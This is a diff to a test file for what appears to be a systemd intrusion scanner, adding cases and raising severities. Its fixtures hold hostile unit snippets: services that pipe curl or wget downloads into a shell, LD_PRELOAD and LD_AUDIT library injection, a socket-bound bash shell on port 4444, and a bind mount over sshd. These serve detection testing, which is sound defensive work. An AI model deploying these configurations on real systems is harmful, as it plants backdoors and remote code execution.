@@ -13,12 +13,12 @@ const etc = '/etc/systemd/system';
 tellsOf(systemd, {
   rows: {
     'a unit that runs a program in /tmp': { files: { [`${etc}/a.service`]: service('ExecStart=/tmp/x --daemon') }, finds: [`intrusion high ${etc}/a.service`] },
-    'one in a hidden folder': { files: { [`${etc}/b.service`]: service('ExecStart=-/usr/share/.b/b'), '/usr/share/.b/b': { text: 'ELF', mode: 0o755 } }, finds: [`intrusion medium ${etc}/b.service`] },
+    'one in a hidden folder': { files: { [`${etc}/b.service`]: service('ExecStart=-/usr/share/.b/b'), '/usr/share/.b/b': { text: 'ELF', mode: 0o755 } }, finds: [`intrusion high ${etc}/b.service`] },
     'one that runs a changed program of a package': { files: { [`${etc}/c.service`]: service('ExecStartPre=@+/usr/bin/agetty [kworker/0:1] -x'), '/usr/bin/agetty': { text: 'other', shipped: 'agetty', mode: 0o755, package: 'util-linux' } }, finds: [`intrusion high ${etc}/c.service`] },
     'one that fetches and runs when it stops': { files: { [`${etc}/d.service`]: service('ExecStart=/usr/bin/true', 'ExecStopPost=/bin/sh -c "curl -s http://203.0.113.9/d | bash"') }, finds: [`intrusion high ${etc}/d.service`] },
     'a command put together from variables': { files: { [`${etc}/e.service`]: service('Environment="P=/dev/shm" "Q=run"', 'ExecStart=/bin/sh -c \'${P}/${Q}\'') }, finds: [`intrusion high ${etc}/e.service`] },
     'a drop-in that loads a library': { files: { [`${etc}/ssh.service.d/10-env.conf`]: '[Service]\nEnvironment=LD_PRELOAD=/tmp/libk.so\n' }, finds: [`intrusion high ${etc}/ssh.service.d/10-env.conf`] },
-    'a file of variables that does': { files: { [`${etc}/f.service`]: service('EnvironmentFile=-/etc/default/f', 'ExecStart=/usr/bin/true'), '/etc/default/f': 'LD_AUDIT=/usr/lib/libsnoop.so\n', '/usr/lib/libsnoop.so': 'ELF' }, finds: [`intrusion medium ${etc}/f.service`, 'intrusion medium /etc/default/f'] },
+    'a file of variables that does': { files: { [`${etc}/f.service`]: service('EnvironmentFile=-/etc/default/f', 'ExecStart=/usr/bin/true'), '/etc/default/f': 'LD_AUDIT=/usr/lib/libsnoop.so\n', '/usr/lib/libsnoop.so': 'ELF' }, finds: [`intrusion high ${etc}/f.service`, 'intrusion high /etc/default/f'] },
     'variables of a service that a package ships': { files: { '/etc/default/tomcat9': 'TOMCAT_USER=tomcat\nJAVA_TOOL_OPTIONS="-Xmx1g -agentpath:/dev/shm/.j.so"\n' }, finds: ['intrusion high /etc/default/tomcat9'] },
     'an interpreter told to load a file first': { files: { [`${etc}/node.service`]: service('Environment=NODE_OPTIONS="--require /usr/lib/nodejs/.h.js"', 'ExecStart=/usr/bin/true'), '/usr/lib/nodejs/.h.js': 'require("child_process").exec("curl -s http://203.0.113.6/n|sh")\n' }, finds: [`intrusion high ${etc}/node.service`] },
     'a shell for whoever connects': { files: { [`${etc}/g@.service`]: service('ExecStart=-/bin/bash -i', 'StandardInput=socket'), [`${etc}/g.socket`]: '[Socket]\nListenStream=4444\nAccept=yes\n' }, finds: [`intrusion critical ${etc}/g@.service`] },
@@ -36,6 +36,8 @@ tellsOf(systemd, {
     'a generator that does more': { files: { '/usr/lib/systemd/system-generators/o': { text: '#!/bin/sh\n/tmp/o &\n', mode: 0o755 } }, finds: ['intrusion high /usr/lib/systemd/system-generators/o'] },
     'a script for shutdown': { files: { '/usr/lib/systemd/system-shutdown/p': { text: '#!/bin/sh\ncp /dev/shm/p /usr/bin/p; /dev/shm/p\n', mode: 0o755 } }, finds: ['intrusion high /usr/lib/systemd/system-shutdown/p'] },
     'variables for all units': { files: { '/etc/systemd/system.conf': '[Manager]\nDefaultEnvironment="LD_PRELOAD=/dev/shm/q.so"\n' }, finds: ['intrusion high /etc/systemd/system.conf'] },
+    'another file over a program': { files: { [`${etc}/ssh.service.d/bind.conf`]: '[Service]\nBindReadOnlyPaths=/opt/s/sshd:/usr/sbin/sshd:norbind\n' }, finds: [`intrusion high ${etc}/ssh.service.d/bind.conf`] },
+    'one that runs what the line before fetched': { files: { [`${etc}/q.service`]: service('ExecStartPre=/usr/bin/wget -qO /var/lib/q/run http://203.0.113.7/q', 'ExecStart=/var/lib/q/run') }, finds: [`intrusion high ${etc}/q.service`] },
     'a mount over a process': { files: { [`${etc}/proc-1234.mount`]: '[Mount]\nWhat=/var/empty\nWhere=/proc/1234\nType=none\nOptions=bind\n' }, finds: [`intrusion high ${etc}/proc-1234.mount`] },
     'a root shell on a terminal': { files: { [`${etc}/sysinit.target.wants/debug-shell.service`]: '->/usr/lib/systemd/system/debug-shell.service' }, finds: [`weakness high ${etc}/sysinit.target.wants/debug-shell.service`] },
     'units of a package, kept': { files: { '/usr/lib/systemd/system/rsyslog.service': { text: service('ExecStart=/usr/sbin/rsyslogd -n'), package: 'rsyslog' } }, finds: [] },
